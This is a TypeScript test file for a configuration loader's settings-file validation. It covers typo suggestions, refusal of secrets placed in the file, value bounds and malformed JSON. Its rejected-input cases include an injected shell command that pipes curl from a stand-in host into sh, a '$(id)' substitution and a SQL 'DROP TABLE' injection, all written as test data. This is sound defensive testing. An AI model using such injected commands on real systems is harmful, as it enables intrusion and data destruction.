import { describe, expect, it } from 'vitest';
import { configure, saidBy } from './configure.ts';

const told = (settings: unknown) => saidBy(configure({}, settings).file);

describe('the file of settings', () => {
  it('may be absent, empty of settings, or hold all of them', () => {
    expect(configure().file).toEqual({ ok: true, value: { present: false } });
    expect(configure({}, {}).file).toEqual({ ok: true, value: { present: true } });
    const everything = {
      model: {
        name: 'm',
        baseUrl: 'https://x.test/v1',
        allowHttp: false,
        apiVersion: '2024-10-21',
        prices: { input: 0, output: 1.5, currency: 'EUR' },
        budget: { requests: 1, tokens: 1, money: 0.01 },
        timeouts: { firstToken: 1, idle: 1, total: 3600 },
        json: true,
        tools: false,
      },
      tracing: { content: true, environment: 'staging', allowHttp: true },
      clickhouse: { table: 'orders', customer: 'customer', day: 'day' },
    };
    expect(configure({}, everything).file.ok).toBe(true);
    expect(configure({}, `\ufeff${JSON.stringify(everything)}`).file.ok).toBe(true);
  });

  it.each([
    [{ modle: {} }, 'modle', 'model'],
    [{ Model: {} }, 'Model', 'model'],
    [{ model: { baseURL: 'https://x.test' } }, 'model.baseURL', 'model.baseUrl'],
    [{ model: { base_url: 'https://x.test' } }, 'model.base_url', 'model.baseUrl'],
    [{ model: { apiVerison: '1' } }, 'model.apiVerison', 'model.apiVersion'],
    [{ model: { budget: { request: 3 } } }, 'model.budget.request', 'model.budget.requests'],
    [{ model: { timeouts: { first_token: 3 } } }, 'model.timeouts.first_token', 'model.timeouts.firstToken'],
    [{ tracing: { contents: true } }, 'tracing.contents', 'tracing.content'],
    [{ clickhouse: { table: 't', customer: 'c', day: 'd', amounts: 'a' } }, 'clickhouse.amounts', 'clickhouse.amount'],
    [{ baseUrl: 'https://x.test' }, 'baseUrl', 'model.baseUrl'],
    [{ trace: {} }, 'trace', 'tracing'],
  ])('%j: an unknown name is refused, with the nearest that is known', (settings, given, meant) => {
    expect(told(settings)).toContain(`“${given}”. Did you mean “${meant}”?`);
  });

  it('lists the names it knows when none is near', () => {
    expect(told({ model: { colour: 1 } })).toContain('name, baseUrl, allowHttp');
    expect(told({ zzz: 1 })).toContain('model, tracing, clickhouse');
  });

  it.each([
    [{ model: { apiKey: 'hunter2' } }, 'model.apiKey', 'OPENAI_API_KEY'],
    [{ model: { api_key: 'hunter2' } }, 'model.api_key', 'OPENAI_API_KEY'],
    [{ OPENAI_API_KEY: 'hunter2' }, 'OPENAI_API_KEY', 'OPENAI_API_KEY'],
    [{ model: { headers: { token: 'hunter2' } } }, 'model.headers.token', 'OPENAI_API_KEY'],
    [{ model: { name: 'sk-hunter2hunter2' } }, 'model.name', 'OPENAI_API_KEY'],
    [{ model: { baseUrl: 'https://u:hunter2@x.test' } }, 'model.baseUrl', 'OPENAI_API_KEY'],
    [{ tracing: { secretKey: 'hunter2' } }, 'tracing.secretKey', 'LANGFUSE_SECRET_KEY'],
    [{ tracing: { publicKey: 'hunter2' } }, 'tracing.publicKey', 'LANGFUSE_PUBLIC_KEY'],
    [{ clickhouse: { password: 'hunter2' } }, 'clickhouse.password', 'FIDELIO_CLICKHOUSE_URL'],
    [{ LANGFUSE_SECRET_KEY: 'hunter2' }, 'LANGFUSE_SECRET_KEY', 'LANGFUSE_SECRET_KEY'],
  ])('%j: a key is refused, with the variable it belongs in, and never repeated', (settings, path, variable) => {
    expect(told(settings)).toContain(path);
    expect(told(settings)).toContain(`the environment variable ${variable}`);
    expect(told(settings)).not.toContain('hunter2');
  });

  it.each([
    [{ model: { prices: { input: -1, output: 1, currency: 'EUR' } } }, 'model.prices.input'],
    [{ model: { prices: { input: 1, output: 1, currency: 'euros' } } }, 'model.prices.currency'],
    [{ model: { prices: { input: 1, output: 1 } } }, 'model.prices.currency'],
    [{ model: { budget: { requests: 1.5 } } }, 'model.budget.requests'],
    [{ model: { budget: { tokens: 0 } } }, 'model.budget.tokens'],
    [{ model: { timeouts: { total: 0 } } }, 'model.timeouts.total'],
    [{ model: { timeouts: { total: 999_999 } } }, 'model.timeouts.total'],
    [{ model: { json: 'yes' } }, 'model.json'],
    [{ model: { name: 'x"; curl evil.invalid | sh; "' } }, 'model.name'],
    [{ model: { name: '$(id)' } }, 'model.name'],
    [{ model: 'gpt' }, 'model'],
    [{ tracing: { environment: 'Langfuse prod' } }, 'tracing.environment'],
    [{ clickhouse: { table: 'a; DROP TABLE b', customer: 'c', day: 'd' } }, 'clickhouse.table'],
    [[], 'fidelio.config.json'],
  ])('%j: a value out of bounds is refused, and named', (settings, path) => expect(told(settings)).toContain(path));

  it('may be nested as deep as anyone likes: it is refused, and nothing breaks', () => {
    expect(told(`{"model":${'['.repeat(50_000)}${']'.repeat(50_000)}}`)).toContain('model');
    expect(told(`${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`)).toContain('“a”');
  });

  it.each(['', '{', '{"model": {"name": "hunter2",}}', '// hunter2\n{}', 'hunter2'])(
    '%j is no JSON, which is said without repeating it',
    (text) => {
      expect(told(text)).toContain('not readable JSON');
      expect(told(text)).not.toContain('hunter2');
    },
  );

  it('is refused to whatever needs it, and to nothing else', () => {
    const url = 'https://u:p@ch.test:8443/shop';
    const langfuse = {
      LANGFUSE_PUBLIC_KEY: 'pk-lf-1',
      LANGFUSE_SECRET_KEY: 'sk-lf-1',
      LANGFUSE_BASE_URL: 'https://lf.test',
    };
    const broken = configure({ FIDELIO_MODEL: 'm', FIDELIO_CLICKHOUSE_URL: url, ...langfuse }, '{');
    expect([broken.model?.ok, broken.clickhouse?.ok, broken.tracing?.ok, broken.file.ok]).toEqual(Array(4).fill(false));
    const unused = configure({ LANG: 'en_GB' }, '{');
    expect([unused.model, unused.clickhouse, unused.tracing, unused.lang]).toEqual([null, null, null, 'en']);
  });
});
